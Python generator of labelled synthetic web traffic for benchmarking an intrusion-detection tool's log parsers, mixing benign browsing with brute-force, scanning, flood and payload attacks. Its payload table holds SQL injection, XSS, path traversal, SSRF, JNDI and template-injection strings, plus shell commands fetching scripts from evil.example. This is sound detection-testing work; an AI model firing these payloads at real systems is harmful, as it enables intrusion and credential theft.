"""A labelled traffic generator for `shieldwall watch` benchmarks (seeded).

Every benign and attack pattern of the watch issue, as requests with a label
per request (the payload kind, or "") and per client (benign, or the attack
kind). `render(req, fmt)` writes the same request in each log format, so one
traffic set measures every parser and the detectors at once.
"""

from __future__ import annotations

import json
import random
import time
from dataclasses import dataclass
from urllib.parse import quote, urlencode

T0 = 1_796_284_800.0  # 2026-12-03T08:00:00Z
HOURS = 6

BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_1) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
    "ShopApp/4.2.1 (Android 14; Pixel 8) okhttp/4.12.0",
]
PAGES = (
    ["/", "/cart", "/checkout", "/account", "/help", "/about", "/static/app.js", "/static/app.css"]
    + [f"/products/{i}" for i in range(1, 400)]
    + [f"/category/{c}" for c in ("shoes", "dresses", "bags", "hats", "sale", "new")]
    + [f"/api/v1/orders/{i}" for i in range(1000, 1100)]
)
# Benign values that look a little like payloads: the precision set.
TRICKY = [
    "O'Brien",
    "rock & roll",
    "3*4",
    "select a plan",
    "union station",
    "drop shipping",
    "meeting at 5; bring laptop",
    "1/2 cup",
    "first.last@example.com",
    '"exact phrase"',
    "--help",
    "c++ tutorial",
    "a|b testing",
    "I <3 this",
    "user's guide",
    "50% off",
    "where is my order?",
    "https://partner.example.com/landing?x=1",
    "size: 10-12",
    "and or not",
    "sleep mask",
    "script writing",
    "order by price",
    "New York, NY",
    "password reset",
    "../ (dot dot slash) explained",
    "{curly}",
    "cat toys",
    "id card",
    "#hashtag",
    "email me at a@b.co",
    "C# basics",
    "tom & jerry's",
    "it's 5 o'clock",
    # near misses of file, SQL, shell and base64 signatures
    "php.ini settings explained",
    "windows 11 system32 folder size",
    "group by colour",
    "xor gate kit",
    "date format dd/mm; at 5 pm",
    "find / replace in word",
    "eyJyZXR1cm4iOiIvY2FydCJ9",
    "C:\\Users\\ann\\Pictures",
    ".env file tutorial",
    "@@ in email?",
    # near misses of system paths, hidden sinks and spaceless tautologies
    "how to read the access log",
    "/photos/2024/",
    "program files folder",
    "(alert) (see manual)",
    "level=alert; notify(team)",
    "1or2 rooms",
    "print @home",
    "import (and perhaps wait)",
    # near misses of code that runs commands, joined strings, dialects and tool files
    "the system('s) design",
    "copy to program files",
    "restore the database from disk images",
    "'rock' + 'roll'",
    "my location=name tag",
    "unattend.xml guide",
    "send to 0x" + "ab12" * 10,
]
PAYLOADS = {
    "sqli": [
        "1' OR '1'='1",
        "1 UNION SELECT username,password FROM users--",
        "1; DROP TABLE users--",
        "' AND SLEEP(5)--",
        "1' AND extractvalue(1,concat(0x7e,version()))--",
        "admin'--",
        "1' ORDER BY 3--",
        "-1 UNION ALL SELECT NULL,NULL,@@version#",
    ],
    "xss": [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(document.cookie)>",
        "<svg/onload=alert(1)>",
        '"><script>prompt(1)</script>',
        "javascript:alert(1)",
        "<iframe src=javascript:alert(1)>",
        "<body onload=alert('x')>",
    ],
    "path-traversal": [
        "../../../../etc/passwd",
        "..\\..\\..\\windows\\win.ini",
        "....//....//etc/passwd",
        "/etc/shadow",
        "../../../../proc/self/environ",
        "..%2f..%2f..%2fetc%2fhosts",
    ],
    "cmdi": [
        ";cat /etc/passwd",
        "| id",
        "`whoami`",
        "$(curl http://evil.example/x.sh|sh)",
        "&& ping -c 3 evil.example",
        "; wget http://evil.example/a -O /tmp/a",
        "|| uname -a",
    ],
    "ssrf": [
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "http://metadata.google.internal/computeMetadata/v1/",
        "http://127.0.0.1:6379/",
        "http://localhost/admin",
        "gopher://127.0.0.1:25/_HELO",
        "file:///etc/passwd",
        "http://[::1]/server-status",
    ],
    "jndi": [
        "${jndi:ldap://evil.example/a}",
        "${${lower:j}ndi:rmi://evil.example/b}",
        "${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/c}",
        "${jndi:dns://evil.example/d}",
    ],
    "ssti": [
        "{{7*7}}",
        "{{config.items()}}",
        "${7*7}",
        "<%= 7*7 %>",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "#{7*7}",
        "{%print(7*7)%}",
    ],
}
SCANNER_AGENTS = [
    "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)",
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
    "gobuster/3.6",
    "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
]
SENSITIVE = [
    "/.env",
    "/.git/config",
    "/.git/HEAD",
    "/wp-login.php",
    "/phpmyadmin/",
    "/actuator/env",
    "/backup.zip",
    "/db.sql",
    "/.aws/credentials",
    "/config.php.bak",
    "/server-status",
    "/.env.production",
    "/admin/.htpasswd",
    "/.svn/entries",
    "/dump.sql",
]


# First octets of ordinary public addresses (no private, loopback, CGNAT or test nets).
_PUBLIC = [o for o in range(11, 200) if o not in (100, 127, 169, 172, 192, 198)]


@dataclass(frozen=True, slots=True)
class Req:
    t: float
    ip: str
    method: str
    path: str
    query: str
    status: int
    ua: str
    referer: str = ""
    user: str = ""
    kind: str = ""  # payload kind of this request, "" when none
    client: str = "benign"  # the client's label: benign or its attack kind


def _encode(rng: random.Random, value: str) -> str:
    way = rng.randrange(6)
    if way == 0:
        return quote(value, safe="")
    if way == 1:
        return quote(quote(value, safe=""), safe="")  # twice
    if way == 2:
        return quote(value, safe="").replace("%3C", "%u003C").replace("%3E", "%u003E")
    if way == 3:  # mixed case letters, then encoded
        mixed = "".join(c.upper() if rng.random() < 0.5 else c for c in value)
        return quote(mixed, safe="")
    if way == 4:
        return quote(value, safe="").replace("%20", "+")
    return quote(value, safe="/:")


class Traffic:
    def __init__(self, seed: int) -> None:
        self.rng = random.Random(seed)
        self.reqs: list[Req] = []
        self._ip_n = 0

    def ip(self, prefix: str = "") -> str:
        self._ip_n += 1
        n = self._ip_n
        if prefix:
            return f"{prefix}.{n % 250 + 1}"
        first = _PUBLIC[n % len(_PUBLIC)]
        return f"{first}.{(n >> 4) % 250 + 1}.{n % 251}.{n % 249 + 2}"

    def add(self, **kw: object) -> None:
        self.reqs.append(Req(**kw))  # type: ignore[arg-type]

    # ---- benign ---------------------------------------------------------------
    def browse(
        self,
        ip: str,
        t: float,
        count: int,
        ua: str,
        gap: float = 4.0,
        q: float = 0.2,
        client: str = "benign",
    ) -> float:
        rng = self.rng
        for _ in range(count):
            t += rng.expovariate(1 / gap)
            if rng.random() < q:
                value = (
                    rng.choice(TRICKY) if rng.random() < 0.5 else rng.choice(["shoes", "red dress"])
                )
                self.add(
                    t=t,
                    ip=ip,
                    method="GET",
                    path="/search",
                    query="q=" + _encode(rng, value),
                    status=200,
                    ua=ua,
                    referer="https://shop.example/",
                    client=client,
                )
            else:
                status = 404 if rng.random() < 0.02 else 200
                self.add(
                    t=t,
                    ip=ip,
                    method="GET",
                    path=rng.choice(PAGES),
                    query="",
                    status=status,
                    ua=ua,
                    referer="https://shop.example/",
                    client=client,
                )
        return t

    def benign(self) -> None:
        rng = self.rng
        span = HOURS * 3600
        for _ in range(300):  # ordinary visitors
            self.browse(
                self.ip(), T0 + rng.uniform(0, span), rng.randint(10, 80), rng.choice(BROWSERS)
            )
        nat = "100.64.1.1"  # a corporate NAT: 150 people, one address
        for user in range(150):
            t = T0 + rng.uniform(0, span - 1800)
            t = self.browse(nat, t, rng.randint(20, 120), rng.choice(BROWSERS), gap=6.0)
            if rng.random() < 0.15:  # a typo, then the right password
                self.add(
                    t=t + 3,
                    ip=nat,
                    method="POST",
                    path="/api/login",
                    query="",
                    status=401,
                    ua=BROWSERS[0],
                    user=f"emp{user}",
                )
            self.add(
                t=t + 9,
                ip=nat,
                method="POST",
                path="/api/login",
                query="",
                status=200,
                ua=BROWSERS[0],
                user=f"emp{user}",
            )
        for ua in ("UptimeRobot/2.0 (http://www.uptimerobot.com/)", "Pingdom.com_bot_version_1.4"):
            ip = self.ip()
            for i in range(span // 30):
                self.add(
                    t=T0 + i * 30.0,
                    ip=ip,
                    method="GET",
                    path="/healthz",
                    query="",
                    status=200,
                    ua=ua,
                )
        crawler = "66.249.66.1"
        bot = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
        self.add(t=T0, ip=crawler, method="GET", path="/robots.txt", query="", status=200, ua=bot)
        for i in range(span // 3):
            path = rng.choice(PAGES) if rng.random() > 0.03 else f"/old-page-{i}"
            self.add(
                t=T0 + 1 + i * 3.0,
                ip=crawler,
                method="GET",
                path=path,
                query="",
                status=404 if path.startswith("/old") else 200,
                ua=bot,
            )
        for _ in range(30):  # mobile clients retrying while the backend answers 503
            ip, t = self.ip(), T0 + rng.uniform(0, span)
            for attempt in range(rng.randint(10, 40)):
                t += min(0.5 * 2 ** (attempt % 5), 8)
                self.add(
                    t=t,
                    ip=ip,
                    method="GET",
                    path="/api/v1/feed",
                    query="",
                    status=503,
                    ua=BROWSERS[4],
                )
        for _ in range(40):  # people mistyping their password a few times
            ip, t = self.ip(), T0 + rng.uniform(0, span)
            for _ in range(rng.randint(1, 5)):
                t += rng.uniform(4, 20)
                self.add(
                    t=t, ip=ip, method="POST", path="/login", query="", status=401, ua=BROWSERS[1]
                )
            self.add(
                t=t + 6, ip=ip, method="POST", path="/login", query="", status=302, ua=BROWSERS[1]
            )
        for _ in range(2):  # busy API clients, 2 requests a second for an hour
            ip, t = self.ip(), T0 + rng.uniform(0, span - 3600)
            for i in range(7200):
                self.add(
                    t=t + i * 0.5,
                    ip=ip,
                    method="GET",
                    path="/api/v1/orders/1001",
                    query="",
                    status=200,
                    ua="python-requests/2.31.0",
                )

    # ---- attacks ----------------------------------------------------------------
    def attacks(self) -> None:
        rng = self.rng
        span = HOURS * 3600
        for _ in range(10):
            ip, t = self.ip(), T0 + rng.uniform(0, span - 600)
            for _ in range(rng.randint(40, 150)):
                t += rng.uniform(0.3, 2.0)
                self.add(
                    t=t,
                    ip=ip,
                    method="POST",
                    path=rng.choice(["/login", "/api/login", "/wp-login.php"]),
                    query="",
                    status=401,
                    ua=rng.choice(BROWSERS),
                    client="bruteforce",
                )
        for _ in range(5):
            ip, t = self.ip(), T0 + rng.uniform(0, 2 * 3600)
            for _ in range(rng.randint(150, 200)):
                t += rng.uniform(40, 80)
                self.add(
                    t=t,
                    ip=ip,
                    method="POST",
                    path="/api/login",
                    query="",
                    status=401,
                    ua=BROWSERS[2],
                    client="slow-bruteforce",
                )
        for _ in range(5):
            ip, t = self.ip(), T0 + rng.uniform(0, span - 900)
            for n in range(40):
                t += rng.uniform(2, 8)
                self.add(
                    t=t,
                    ip=ip,
                    method="POST",
                    path="/api/login",
                    query="",
                    status=401,
                    ua=BROWSERS[0],
                    user=f"victim{n}@mail.example",
                    client="credential-stuffing",
                )
        t0 = T0 + rng.uniform(0, span - 900)
        for net in ("45.13.7", "45.13.8", "91.200.12", "185.100.87"):
            for host in range(30):
                ip, t = f"{net}.{host + 10}", t0 + rng.uniform(0, 300)
                for _ in range(rng.randint(2, 3)):
                    t += rng.uniform(20, 120)
                    self.add(
                        t=t,
                        ip=ip,
                        method="POST",
                        path="/api/login",
                        query="",
                        status=401,
                        ua=rng.choice(BROWSERS),
                        client="distributed-bruteforce",
                    )
        for _ in range(8):
            ip, t = self.ip(), T0 + rng.uniform(0, span - 600)
            for n in range(150):
                t += rng.uniform(0.05, 0.3)
                self.add(
                    t=t,
                    ip=ip,
                    method="GET",
                    path=f"/{rng.choice(['admin', 'old', 'test', 'api'])}/{n}.php",
                    query="",
                    status=404,
                    ua=BROWSERS[2],
                    client="scanning",
                )
        for _ in range(8):
            ip, t = self.ip(), T0 + rng.uniform(0, span - 600)
            for path in rng.sample(SENSITIVE, rng.randint(4, 10)):
                t += rng.uniform(0.5, 3)
                self.add(
                    t=t,
                    ip=ip,
                    method="GET",
                    path=path,
                    query="",
                    status=404,
                    ua=BROWSERS[0],
                    client="sensitive-files",
                )
        for _ in range(3):  # 1000 requests a second for 4 s
            ip, t = self.ip(), T0 + rng.uniform(0, span - 600)
            for i in range(4000):
                self.add(
                    t=t + i / 1000,
                    ip=ip,
                    method="GET",
                    path="/",
                    query="",
                    status=200,
                    ua=BROWSERS[1],
                    client="flood",
                )
        for kind, payloads in PAYLOADS.items():
            for _ in range(6):
                ip, t = self.ip(), T0 + rng.uniform(0, span - 600)
                for _ in range(rng.randint(4, 10)):
                    t = self.browse(
                        ip, t, rng.randint(0, 2), BROWSERS[0], gap=2.0, q=0.0, client=kind
                    )
                    t += rng.uniform(0.5, 3)
                    value = rng.choice(payloads)
                    param = rng.choice(["q", "id", "file", "url", "name", "host", "page"])
                    ua = BROWSERS[0]
                    query = f"{param}={_encode(rng, value)}"
                    if kind == "jndi" and rng.random() < 0.3:
                        ua, query = value, "q=1"
                    self.add(
                        t=t,
                        ip=ip,
                        method="GET",
                        path=rng.choice(["/search", "/api/v1/item", "/view"]),
                        query=query,
                        status=rng.choice([200, 400, 500]),
                        ua=ua,
                        kind=kind,
                        client=kind,
                    )
        for ua in SCANNER_AGENTS:
            ip, t = self.ip(), T0 + rng.uniform(0, span - 600)
            for n in range(20):
                t += rng.uniform(0.2, 1)
                self.add(
                    t=t,
                    ip=ip,
                    method="GET",
                    path=f"/cgi-bin/test{n}.cgi",
                    query="",
                    status=404,
                    ua=ua,
                    kind="scanner",
                    client="scanner",
                )

    # ---- one account, many clients (made last: the traffic above stays as it was) ----
    def accounts(self) -> None:
        rng = self.rng
        span = HOURS * 3600
        login = {"method": "POST", "path": "/api/login", "query": "", "status": 401}
        monitors = [self.ip() for _ in range(4)]  # a shared account, its password changed
        for i in range(span // 300):
            for m, ip in enumerate(monitors):
                t = T0 + i * 300.0 + m
                self.add(t=t, ip=ip, ua="check_http/v2.3", user="svc-reports", **login)
        for n in range(20):  # a person mistyping on a laptop, then on a phone
            t = T0 + rng.uniform(0, span - 600)
            for ip, ua in ((self.ip(), BROWSERS[0]), (self.ip(), BROWSERS[4])):
                for _ in range(rng.randint(2, 4)):
                    t += rng.uniform(5, 30)
                    self.add(t=t, ip=ip, ua=ua, user=f"pat{n}@mail.example", **login)
        # many clients of four /24s trying one account, each once or twice, a client
        # every 20-40 s (slower than the route alert's leak), the whole list twice
        t = T0 + rng.uniform(0, span - 3600)
        nets = ("5.188.10", "5.188.11", "5.188.62", "2.57.122")
        hosts = [f"{net}.{h}" for net in nets for h in range(20, 26)]
        for _ in range(2):
            for ip in hosts:
                t += rng.uniform(20, 40)
                for _ in range(rng.randint(1, 2)):
                    self.add(
                        t=t + rng.uniform(0, 3),
                        ip=ip,
                        ua=rng.choice(BROWSERS),
                        user="admin@shop.example",
                        client="distributed-account",
                        **{**login, "path": "/user/login"},
                    )


def generate(seed: int = 7) -> list[Req]:
    traffic = Traffic(seed)
    traffic.benign()
    traffic.attacks()
    traffic.accounts()
    return sorted(traffic.reqs, key=lambda r: r.t)


# ---- rendering -----------------------------------------------------------------

_MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]


def _clf(t: float) -> str:
    import time

    g = time.gmtime(t)
    day = f"{g.tm_mday:02d}/{_MONTHS[g.tm_mon - 1]}/{g.tm_year}"
    return f"{day}:{g.tm_hour:02d}:{g.tm_min:02d}:{g.tm_sec:02d} +0000"


def _iso(t: float) -> str:
    import time

    return time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(t)) + f".{int(t * 1000) % 1000:03d}Z"


def _esc(text: str) -> str:  # what nginx does to quotes and bytes it does not print
    return "".join(c if 32 <= ord(c) < 127 and c not in '"\\' else f"\\x{ord(c):02X}" for c in text)


def _modsecurity(r: Req, target: str) -> str:
    """ModSecurity's JSON audit log: no user name field; a login's account is in the
    form body it logs, beside a password made up per request."""
    headers = {"User-Agent": r.ua, "Referer": r.referer}
    body = ""
    if r.user:
        headers["Content-Type"] = "application/x-www-form-urlencoded"
        body = urlencode({"username": r.user, "password": f"pw{int(r.t * 1000) % 99991}"})
    return json.dumps(
        {
            "transaction": {
                "client_ip": r.ip,
                "time_stamp": time.strftime("%a %b %d %H:%M:%S %Y", time.gmtime(r.t)),
                "request": {"method": r.method, "uri": target, "headers": headers, "body": body},
                "response": {"http_code": r.status},
            }
        }
    )


def render(r: Req, fmt: str) -> str:
    target = f"{r.path}?{r.query}" if r.query else r.path
    if fmt == "nginx":
        return (
            f"{r.ip} - {r.user or '-'} [{_clf(r.t)}] "
            f'"{r.method} {_esc(target)} HTTP/1.1" {r.status} 512 '
            f'"{_esc(r.referer) or "-"}" "{_esc(r.ua)}" 0.012'
        )
    if fmt == "nginx-json":
        return json.dumps(
            {
                "time": _iso(r.t),
                "remote_addr": r.ip,
                "method": r.method,
                "uri": target,
                "status": r.status,
                "user_agent": r.ua,
                "referer": r.referer,
                "user": r.user,
            }
        )
    if fmt == "envoy-json":
        return json.dumps(
            {
                "start_time": _iso(r.t),
                "method": r.method,
                "path": target,
                "protocol": "HTTP/1.1",
                "response_code": r.status,
                "user_agent": r.ua,
                "referer": r.referer,
                "downstream_remote_address": f"{r.ip}:40000",
            }
        )
    if fmt == "traefik-json":
        return json.dumps(
            {
                "ClientHost": r.ip,
                "RequestMethod": r.method,
                "RequestPath": target,
                "DownstreamStatus": r.status,
                "StartUTC": _iso(r.t),
                "request_User-Agent": r.ua,
                "request_Referer": r.referer,
                "ClientUsername": r.user,
            }
        )
    if fmt == "modsecurity-json":
        return _modsecurity(r, target)
    if fmt == "haproxy":
        ms = int(r.t * 1000) % 1000
        agent = r.ua.replace("|", " ").replace("}", ")")
        return (
            f"Dec  3 10:00:00 lb haproxy[1]: {r.ip}:40000 [{_clf(r.t)[:-6]}.{ms:03d}] http-in "
            f"shop/s1 0/0/1/2/3 {r.status} 512 - - ---- 1/1/0/0/0 0/0 "
            f'{{shop.example|{agent}}} "{r.method} {target} HTTP/1.1"'
        )
    raise ValueError(fmt)


FORMATS = ("nginx", "nginx-json", "envoy-json", "traefik-json", "haproxy", "modsecurity-json")
